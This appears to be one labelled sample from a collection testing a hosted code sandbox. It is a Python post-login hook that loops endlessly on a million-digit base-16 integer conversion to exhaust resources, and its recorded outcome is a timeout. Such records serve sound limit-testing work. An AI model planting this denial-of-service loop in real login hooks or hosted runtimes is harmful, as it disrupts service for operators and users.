# origin: own
# technique: digits without the limit: a power of two as base
# goal: resource
# outcome: TIMED_OUT
def on_execute_post_login(event, api):
    while True:
        int("f" * 1_000_000, 16) // 3
